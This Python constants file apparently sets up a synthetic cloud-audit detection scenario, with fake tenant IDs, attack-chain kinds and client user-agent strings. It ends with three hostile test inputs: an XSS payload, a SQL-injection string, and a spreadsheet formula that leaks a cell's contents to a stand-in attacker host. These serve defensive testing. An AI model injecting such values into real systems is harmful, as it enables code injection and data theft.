"""The scenario's fixed world: sizes, tenants, platform names, chain kinds, the clients' user agents and
the hostile names."""

from __future__ import annotations

# What `python -m devconsole seed` generates without --events / --seed.
DEFAULT_EVENTS = 20_000
DEFAULT_SEED = 1_136_003

HOUR_MS = 3_600_000
MINUTE_MS = 60_000

# Behaviours of a real QRadar the scenario exercises: manifest "behaviours" says how each is set, an item's
# "depends_on" names those its detection depends on (behaviour -> why).
RECEIPT_DELAY = "receipt_delay"  # starttime = receipt, devicetime = the record's own time

AWS_ACCOUNT = "111122223333"
TENANT_ID = "5b7e2a4c-9d13-4f6e-8a21-c0ffee1136a3"
TENANT_DOMAIN = "contoso.onmicrosoft.com"
GCP_PROJECT = "acme-prod-4411"
AZURE_SUBSCRIPTION = "0f6d1c2b-7a8e-4b39-9c5d-3e2f1a0b9c8d"

# Platform names as in the detection record (docs/ARCHITECTURE.md).
AWS, AZURE_AD, OFFICE_365, GCP = "AWS", "Azure AD", "Office 365", "GCP"

# Chain kinds and the letter of the app's chain rule each plays, (a)–(c); rule (d), the cross-feed twin,
# is not a chain.
CHAIN_ENTRA_APP_SP_CREDENTIAL = "entra_app_sp_credential"  # (a)
CHAIN_AWS_USER_CREDENTIAL = "aws_user_credential"  # (b)
CHAIN_PRIVILEGE_GRANT = "privilege_grant"  # (c)
CHAIN_RULES = {CHAIN_ENTRA_APP_SP_CREDENTIAL: "a", CHAIN_AWS_USER_CREDENTIAL: "b", CHAIN_PRIVILEGE_GRANT: "c"}
CHAIN_ENTRA_DOMAIN_FEDERATION = "entra_domain_federation"  # (e) domain added/verified, then federated
CHAIN_ENTRA_GUEST_REDEMPTION = "entra_guest_redemption"  # (f) guest invited, then the invitation redeemed
CHAIN_RULES.update({CHAIN_ENTRA_DOMAIN_FEDERATION: "e", CHAIN_ENTRA_GUEST_REDEMPTION: "f"})

UA_AWS_CLI = (
    "aws-cli/2.18.17 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1016-aws md/arch#x86_64 "
    "lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
    "md/distrib#ubuntu.24 md/prompt#off md/command#{command}"
)
UA_TERRAFORM = (
    "APN/1.0 HashiCorp/1.0 Terraform/1.5.6 (+https://www.terraform.io) terraform-provider-aws/4.67.0 "
    "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go/1.44.261 "
    "(go1.19.8; linux; amd64)"
)
UA_ANSIBLE = (
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0-18-amd64 md/arch#x86_64 "
    "lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69 Ansible/2.16.3"
)
# Puppet's AWS user agent has no public sample (UNCONFIRMED): an aws-sdk-ruby string.
UA_PUPPET = "aws-sdk-ruby3/3.191.3 ruby/3.2.2 x86_64-linux aws-sdk-iam/1.93.0 Puppet/8.4.0"
UA_BOTO3_SCRIPT = (
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.15.0-105-generic md/arch#x86_64 "
    "lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69"
)
UA_CONSOLE = "AWS Internal"
UA_AZ_CLI = "AZURECLI/2.61.0 (MSI) azsdk-python-core/1.28.0 Python/3.11.8 (Windows-10-10.0.22631-SP0)"
UA_POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"
UA_AAD_GRAPH = "Microsoft Azure Graph Client Library 2.1.17-internal"
UA_BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"
)
UA_GCLOUD = (
    "google-cloud-sdk gcloud/470.0.0 command/gcloud.iam.service-accounts.{command} "
    "invocation-id/{invocation} environment/None environment-version/None client-os/LINUX "
    "client-os-ver/6.5.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.11.8 "
    "term/xterm-256color (Linux 6.5.0-1014-gcp),gzip(gfe)"
)

APPID_AZURE_CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
APPID_AAD_POWERSHELL = "1b730954-1685-4b74-9bfd-dac224a7b894"
APPID_MS_GRAPH = "00000003-0000-0000-c000-000000000000"
APPID_SYNC_FABRIC = "00000014-0000-0000-c000-000000000000"
GLOBAL_ADMIN_TEMPLATE_ID = "62e90394-69f5-4237-9190-012177145e10"
ADMIN_POLICY_ARN = "arn:aws:iam::aws:policy/AdministratorAccess"

HOSTILE_XSS = "<img src=x onerror=alert(1)>"
HOSTILE_SQL = "' OR 1=1 --"
HOSTILE_CSV = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")'
